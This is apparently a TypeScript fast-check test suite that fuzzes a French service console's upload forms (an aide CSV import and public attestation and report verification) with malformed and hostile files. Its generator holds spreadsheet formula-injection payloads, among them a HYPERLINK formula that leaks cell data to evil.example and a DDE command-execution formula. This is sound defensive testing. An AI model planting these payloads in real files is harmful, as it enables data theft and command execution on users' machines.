import type { NestExpressApplication } from '@nestjs/platform-express';
import { MembershipRole } from '@relais/aides';
import { createTestEnvironment, type TestEnvironment } from '@relais/testing';
import fc from 'fast-check';
import request from 'supertest';
import { DataSource } from 'typeorm';

import { createMember, createStructure, hidden, logIn } from '../console-helpers.js';
import { startConsole } from '../console-helpers.js';
import { databaseFingerprint, LEAK, markupValues } from './hostile-harness.js';
import { HOSTILE_RUNS } from './hostile-runs.js';
import { hostileString } from './hostile-values.js';

type Agent = ReturnType<typeof request.agent>;

const HEADER = 'prénom;nom;adresse électronique;rôle;formé';

/** A hostile cell: injection, unicode, a spreadsheet formula, or a quote that never closes. */
const cell = fc.oneof(
  hostileString.filter((value) => value.length < 2000),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '@SUM(1)',
    '"unclosed',
    'a";"b',
  ),
  fc.constantFrom('Léa', 'Martin', 'lea@example.fr', 'aidant', 'oui'),
);

/** What a malicious import file holds: hostile rows under the real header, bytes, a fake spreadsheet. */
const importFile: fc.Arbitrary<{ kind: string; content: Buffer; cells: string[] }> = fc.oneof(
  fc
    .tuple(
      fc.array(fc.array(cell, { minLength: 1, maxLength: 7 }), { minLength: 1, maxLength: 6 }),
      fc.constantFrom(';', ',', '\t'),
      fc.constantFrom('\n', '\r\n', '\r'),
      fc.boolean(),
    )
    .map(([rows, separator, newline, bom]) => ({
      kind: 'csv',
      content: Buffer.from(
        `${bom ? '\ufeff' : ''}${[HEADER.replaceAll(';', separator), ...rows.map((row) => row.join(separator))].join(newline)}`,
      ),
      cells: rows.flat(),
    })),
  fc
    .uint8Array({ minLength: 1, maxLength: 4096 })
    .map((bytes) => ({ kind: 'bytes', content: Buffer.from(bytes), cells: [] })),
  fc.uint8Array({ minLength: 0, maxLength: 2048 }).map((bytes) => ({
    kind: 'fake xlsx',
    content: Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.from(bytes)]),
    cells: [],
  })),
  fc
    .constantFrom('', HEADER, '\ufeff', ';;;;\n;;;;')
    .map((text) => ({ kind: 'almost empty', content: Buffer.from(text), cells: [] })),
);

/** The tables a preview may write: an accepted file is kept 30 minutes for its confirmation. */
const PREVIEW_TABLES = ['aide_imports'];

/**
 * Malicious files on every upload form (the supervisor's aide import, the attestation and report
 * verification): never a 500 or a stack trace, no cell reflected unescaped, nothing stored but
 * the preview of an accepted import.
 */
describe('hostile files on the upload forms (fast-check)', () => {
  let env: TestEnvironment;
  let app: NestExpressApplication;
  let db: DataSource;
  let supervisor: Agent;
  let csrf: string;
  const tally = new Map<string, number>();
  const statuses = new Map<string, number>();

  beforeAll(async () => {
    env = await createTestEnvironment();
    app = await startConsole();
    db = app.get(DataSource);
    const structureId = await createStructure(app, 'France Services Fichiers');
    supervisor = await logIn(
      app,
      await createMember(app, structureId, 'resp.fichiers@example.fr', MembershipRole.Supervisor),
    );
    csrf = hidden((await supervisor.get('/responsable/import-aidants').expect(200)).text, '_csrf');
  }, 60_000);

  afterAll(async () => {
    console.log(
      [...tally.entries()]
        .map(([route, cases]) => {
          const seen = [...statuses]
            .filter(([key]) => key.startsWith(`${route} `))
            .map(([key, n]) => `${key.slice(route.length + 1)}×${n}`);
          return `hostile-input upload ${route}: ${cases} generated files (${seen.join(' ')})`;
        })
        .join('\n'),
    );
    await app?.close();
    await env?.dispose();
  });

  const without = (fingerprint: Record<string, string>, tables: string[]) =>
    Object.fromEntries(Object.entries(fingerprint).filter(([name]) => !tables.includes(name)));

  async function check(
    route: string,
    send: (file: Buffer) => Promise<request.Response>,
    cells: string[],
    file: Buffer,
    mayStore: string[],
  ) {
    const before = await databaseFingerprint(db);
    const response = await send(file);
    tally.set(route, (tally.get(route) ?? 0) + 1);
    statuses.set(`${route} ${response.status}`, (statuses.get(`${route} ${response.status}`) ?? 0) + 1);
    if (response.status >= 500) throw new Error(`${route} answered ${response.status}`);
    const leak = LEAK.exec(response.text ?? '');
    if (leak) throw new Error(`${route} printed internals: ${leak[0]}`);
    const reflected = markupValues(cells).find((value) => (response.text ?? '').includes(value));
    if (reflected) throw new Error(`${route} reflected ${JSON.stringify(reflected)} unescaped`);
    const after = await databaseFingerprint(db);
    expect(without(after, response.status < 400 ? mayStore : [])).toEqual(
      without(before, response.status < 400 ? mayStore : []),
    );
  }

  it('given malicious import files, when a supervisor uploads them, then each is refused or previewed safely', async () => {
    await fc.assert(
      fc.asyncProperty(importFile, async ({ content, cells }) => {
        await check(
          'POST /responsable/import-aidants',
          (file) =>
            supervisor
              .post(`/responsable/import-aidants?_csrf=${encodeURIComponent(csrf)}`)
              .set('accept', 'text/html')
              .attach('file', file, 'aidants.csv'),
          cells,
          content,
          PREVIEW_TABLES,
        );
      }),
      { numRuns: HOSTILE_RUNS * 2 },
    );
    expect(tally.get('POST /responsable/import-aidants')).toBe(HOSTILE_RUNS * 2);
  }, 300_000);

  it('given malicious files, when they are sent to the attestation and report checks, then each is refused safely and nothing is stored', async () => {
    // Public checks without a session: no CSRF token to send.
    const anonymous = request.agent(app.getHttpServer());
    await fc.assert(
      fc.asyncProperty(importFile, fc.uint8Array({ maxLength: 512 }), async ({ content }, signature) => {
        await check(
          'POST /verify',
          (file) => anonymous.post('/verify').set('accept', 'text/html').attach('attestation', file, 'attestation.pdf'),
          [],
          content,
          [],
        );
        await check(
          'POST /verify/rapport',
          (file) =>
            anonymous
              .post('/verify/rapport')
              .set('accept', 'text/html')
              .attach('rapport', file, 'rapport.csv')
              .attach('signature', Buffer.from(signature), 'rapport.csv.jws'),
          [],
          content,
          [],
        );
      }),
      { numRuns: HOSTILE_RUNS },
    );
    expect(tally.get('POST /verify')).toBe(HOSTILE_RUNS);
  }, 300_000);
});
